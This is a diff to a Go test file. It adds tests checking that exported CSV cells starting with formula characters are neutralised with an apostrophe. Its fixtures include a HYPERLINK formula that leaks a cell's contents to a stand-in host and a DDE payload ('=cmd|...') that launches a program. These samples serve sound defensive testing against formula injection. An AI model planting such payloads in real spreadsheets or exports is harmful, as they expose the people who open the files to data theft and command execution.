@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"strings"
 	"testing"
@@ -118,6 +119,49 @@ func TestOneLineInHaste(t *testing.T) {
 	} {
 		if got := oneLine(s); got != want {
 			t.Errorf("oneLine(%q) = %q, want %q", s, got, want)
+		}
+	}
+}
+
+func TestInert(t *testing.T) {
+	for cell, want := range map[string]string{
+		`=HYPERLINK("https://x.example/?"&A1)`: `'=HYPERLINK("https://x.example/?"&A1)`,
+		"+1 or more":                           "'+1 or more", "-2+3": "'-2+3", "- said": "'- said", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
+		"-1": "-1", "+1.5e3": "+1.5e3", "": "", "a=b": "a=b", "–": "–", "0": "0", "'": "'",
+	} {
+		if got := inert(cell); got != want {
+			t.Errorf("inert(%q) = %q, want %q", cell, got, want)
+		}
+	}
+}
+
+// What feeds say is no formula in any column, whatever stood before it.
+func TestListsInCSVHoldNoFormulas(t *testing.T) {
+	formula := " \n=cmd|' /C calc'!A0"
+	h := &store.Headline{Item: "i", Profile: "p", Title: formula, Link: formula, Outlet: formula, Class: formula, Language: formula, When: time.Unix(0, 0)}
+	for name, print := range map[string]func(*bytes.Buffer) error{
+		"hits":     func(b *bytes.Buffer) error { return hitsCSV(b, []*store.Headline{h}) },
+		"timeline": func(b *bytes.Buffer) error { return timelineCSV(b, chronicle(byStory([]*store.Headline{h}), time.UTC)) },
+	} {
+		var b bytes.Buffer
+		if err := print(&b); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%s: %d rows, %v", name, len(rows), err)
+		}
+		marked := 0
+		for _, cell := range rows[1] {
+			if strings.HasPrefix(cell, "=") {
+				t.Errorf("%s: %q", name, cell)
+			}
+			if strings.HasPrefix(cell, "'=") {
+				marked++
+			}
+		}
+		if marked < 3 {
+			t.Errorf("%s: %d cells marked in %q", name, marked, rows[1])
 		}
 	}
 }
